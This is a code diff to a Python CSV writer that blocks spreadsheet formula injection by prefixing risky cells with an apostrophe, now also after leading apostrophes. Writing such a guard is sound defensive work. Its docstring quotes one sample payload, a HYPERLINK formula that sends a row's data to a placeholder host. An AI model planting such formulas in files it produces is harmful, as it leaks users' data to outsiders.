@@ -1,7 +1,7 @@
 """Writing CSV files that are safe to open in a spreadsheet: the one writer for every CSV we write.
 
 A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, CR or LF (or their full-width twins,
-or any of them after leading spaces) is a formula to Excel, LibreOffice and Google Sheets:
+or any of them after leading spaces or apostrophes) is a formula to Excel, LibreOffice and Google Sheets:
 ``=HYPERLINK("http://x/?a="&A1;"click")`` in a rejects file would send the row to whoever
 clicks. :func:`safe_cell` prefixes such a cell with ``'``, which spreadsheets show as text (the
 OWASP recommendation). :func:`safe_writer` wraps :func:`csv.writer` and escapes EVERY cell of
@@ -24,7 +24,7 @@ class _Writable(Protocol):
 def safe_cell(value: object) -> str:
     """``value`` as CSV cell text that no spreadsheet runs as a formula."""
     text = "" if value is None else str(value)
-    if text.lstrip(" ").startswith(FORMULA_PREFIXES):
+    if text.lstrip(" '").startswith(FORMULA_PREFIXES):
         return "'" + text
     return text
 
@@ -52,7 +52,8 @@ def unescape_cell(text: str) -> str:
     """Undo :func:`safe_cell` when reading a CSV back: ``'+86 138…`` is ``+86 138…`` again.
 
     Only a ``'`` before a formula prefix is removed, so a file we wrote (a copy of a backfill,
-    a rejects file fixed in a spreadsheet) reads as the values it was written from."""
-    if text[:1] == "'" and text[1:].lstrip(" ").startswith(FORMULA_PREFIXES):
+    a rejects file fixed in a spreadsheet) reads as the values it was written from:
+    ``unescape_cell(safe_cell(x)) == x`` for every ``x``."""
+    if text[:1] == "'" and text.lstrip(" '").startswith(FORMULA_PREFIXES):
         return text[1:]
     return text
